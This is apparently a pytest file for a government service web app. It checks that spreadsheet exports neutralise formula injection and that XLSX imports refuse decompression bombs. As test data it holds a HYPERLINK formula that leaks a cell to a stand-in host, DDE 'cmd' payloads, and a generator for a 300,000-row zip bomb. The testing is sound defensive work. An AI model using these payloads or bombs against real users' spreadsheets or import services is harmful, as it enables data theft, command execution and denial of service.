"""Issue #11 points 10 and 16: no export turns typed text into a live formula, and no XLSX
import unpacks a bomb (too many rows, columns or bytes) before refusing it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from satupintu.core import spreadsheets
from satupintu.core.errors import DomainError
from satupintu.core.spreadsheets import XlsxRows, safe_cell

HYPERLINK = '=HYPERLINK("http://jahat.example/?d="&A1,"klik")'
DANGEROUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_safe_cell_neutralises_text_that_starts_a_formula_and_keeps_numbers():
    for text in DANGEROUS:
        assert safe_cell(text) == "'" + text
    for value in ("Budi", "", "1+1", "a=b", None, -3, -2.5, 0, 7):
        assert safe_cell(value) == value
    assert isinstance(safe_cell(-3), int)


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_survey_exports_csv_and_xlsx_keep_comments_as_text(people):
    from satupintu.feedback.exports import responses_csv, responses_xlsx
    from satupintu.feedback.ikm import ikm_from_sums
    from satupintu.feedback.models import SurveyResponse
    from satupintu.organization.models import Office

    office = Office.objects.get(code="73.22")
    for text in DANGEROUS:
        SurveyResponse.objects.create(office=office, channel="kiosk", answered_on=timezone.localdate(),
                                      comment=text, **{f"u{i}": 3 for i in range(1, 10)})
    responses = SurveyResponse.objects.all()
    comments = [row[-1] for row in _csv_rows(responses_csv(responses))[1:]]
    assert sorted(comments) == sorted("'" + t for t in DANGEROUS)

    book = load_workbook(io.BytesIO(responses_xlsx(responses, ikm_from_sums(6, [18] * 9))))
    sheet = book["Jawaban"]
    cells = [row[-1] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" and c.value.startswith("'") for c in cells), [(c.data_type, c.value) for c in cells]
    assert {c.value[1:] for c in cells} == set(DANGEROUS)
    first = next(sheet.iter_rows(min_row=2, values_only=True))
    assert first[4] == 3 and isinstance(first[4], int)  # answers stay numbers
    assert isinstance(book["Ringkasan"]["C2"].value, (int, float))


@pytest.mark.django_db
def test_complaint_queue_csv_keeps_titles_as_text(people):
    from satupintu.feedback import reports
    from satupintu.organization.models import Office, Role, StaffRole

    officer = get_user_model().objects.create_user("pengaduan.x", "p@test.local", "sandi-uji-123")
    StaffRole.objects.create(user=officer, office=Office.objects.get(code="73.22"), role=Role.COMPLAINT_OFFICER)
    reports.report_submit(reports.ReportSubmission(
        kind="complaint", category="service_quality", office="73.22", title=HYPERLINK,
        text="Pengurusan legalisir ijazah sudah dua minggu belum selesai.", name="@SUM(A1:A9)",
        email="budi@contoh.id"))
    c = Client()
    assert c.login(username="pengaduan.x", password="sandi-uji-123")
    response = c.get("/petugas/pengaduan/", {"status": "all", "format": "csv"})
    assert response.status_code == 200
    rows = _csv_rows(response.content)
    header, row = rows[0], rows[1]
    assert row[header.index("judul")] == "'" + HYPERLINK
    assert row[header.index("pelapor")] == "'@SUM(A1:A9)"


@pytest.mark.django_db
def test_meeting_attendance_csv_keeps_names_as_text(people):
    from satupintu.rakor import meetings
    from satupintu.rakor.models import MeetingType

    start = timezone.now() - timedelta(minutes=30)
    m = meetings.create_meeting(meetings.MeetingDraft(
        office="73", type=MeetingType.RAKOR, title="Rakor", starts_at=start, ends_at=start + timedelta(hours=3),
        agenda=list(meetings.STANDARD_AGENDA[:1])), user=None)
    people.kakan_lutra.first_name = "=cmd|' /C calc'!A0"
    people.kakan_lutra.save()
    meetings.record_attendance(m, people.kakan_lutra, method="qr", token=m.attendance_token)
    c = Client()
    assert c.login(username=people.kakanwil_sulsel.username, password="sandi-uji-123")
    rows = _csv_rows(c.get(f"/rakor/{m.pk}/presensi.csv").content)
    assert rows[1][0].startswith("'=cmd")


def test_every_csv_and_xlsx_writer_goes_through_the_helper():
    """The mechanism, not one place: no module writes CSV or a workbook except core.spreadsheets
    (the national demo's bulk COPY files are not exports and are left out)."""
    root = Path(spreadsheets.__file__).resolve().parents[1]
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheets.py" or "demo_national" in path.parts:
            continue
        source = path.read_text()
        if re.search(r"csv\.(writer|DictWriter)\(|Workbook\(", source):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []


# --- XLSX bombs ----------------------------------------------------------------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
         'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
             '<sheets><sheet name="Jawaban" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WB_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')


def _workbook(rows: int, *, dimension: str | None, extra: dict[str, bytes] | None = None) -> bytes:
    """A real, compressed .xlsx with ``rows`` rows of the SKM header's width, written directly (openpyxl
    would take a minute for 300,000 rows). ``dimension``: the <dimension ref> it declares, or none."""
    header = "".join(f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>u{i}</t></is></c>' for i in range(15))
    body = "".join(f'<row r="{r}"><c r="A{r}"><v>4</v></c><c r="B{r}"><v>3</v></c></row>' for r in range(2, rows + 1))
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
             f'2006/main">{dim}<sheetData><row r="1">{header}</row>{body}</sheetData></worksheet>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", _CONTENT_TYPES)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


BOMB_ROWS = 300_000


@pytest.fixture(scope="module")
def bomb_lying() -> bytes:
    """300,000 rows, but a <dimension> that claims one cell: only streaming and counting stops it."""
    data = _workbook(BOMB_ROWS, dimension="A1")
    assert len(data) < 3 * 1024 * 1024  # small on the wire (the report's was 518 KB)
    return data


def test_a_small_workbook_reads_all_rows():
    rows = list(XlsxRows(_workbook(5, dimension="A1:O5"), max_rows=10))
    assert len(rows) == 5 and rows[0][0] == "u0" and rows[1] == (4, 3)


def test_declared_300k_rows_are_refused_unread():
    reader = None
    with pytest.raises(DomainError) as caught:
        reader = XlsxRows(_workbook(BOMB_ROWS, dimension=f"A1:O{BOMB_ROWS}"), max_rows=50_000)
    assert reader is None
    assert caught.value.code == "too_many_rows" and "50000" in caught.value.message


def test_a_300k_row_bomb_with_a_lying_dimension_stops_at_the_limit(bomb_lying):
    reader = XlsxRows(bomb_lying, max_rows=1000)
    with pytest.raises(DomainError) as caught:
        for _ in reader:
            pass
    assert caught.value.code == "too_many_rows" and "Maksimal 1000 baris" in caught.value.message
    assert reader.read == 1000 + 2  # the header, the limit, and the one row that proved it too long


@pytest.mark.django_db
def test_skm_import_refuses_the_bomb_at_its_row_limit(bomb_lying):
    from satupintu.feedback.skm_import import MAX_ROWS, skm_import
    from satupintu.organization.models import Office

    with pytest.raises(DomainError) as caught:
        skm_import(bomb_lying, filename="bom.xlsx", office=Office.objects.get(code="73.22"))
    assert caught.value.code == "too_many_rows" and f"Maksimal {MAX_ROWS} baris" in caught.value.message
    # A workbook that unpacks to more than any survey sheet is refused before any XML is read.
    padded = _workbook(3, dimension="A1:O3", extra={"xl/media/bom.bin": b"\0" * (spreadsheets.MAX_UNCOMPRESSED_BYTES + 1)})
    with pytest.raises(DomainError) as caught:
        skm_import(padded, filename="bom.xlsx", office=Office.objects.get(code="73.22"))
    assert caught.value.code == "file_too_large"


def test_absurd_uncompressed_size_or_width_is_refused_before_parsing():
    zeros = b"\0" * (spreadsheets.MAX_UNCOMPRESSED_BYTES + 1)
    with pytest.raises(DomainError) as caught:
        XlsxRows(_workbook(3, dimension="A1:O3", extra={"xl/media/bom.bin": zeros}), max_rows=10)
    assert caught.value.code == "file_too_large" and "MB" in caught.value.message
    with pytest.raises(DomainError) as caught:
        XlsxRows(_workbook(3, dimension="A1:XFD3"), max_rows=10)
    assert caught.value.code == "too_many_columns"
    for junk in (b"PK\x03\x04 not really a zip", b"plain text"):
        with pytest.raises(DomainError) as caught:
            XlsxRows(junk, max_rows=10)
        assert caught.value.code == "unreadable_file"
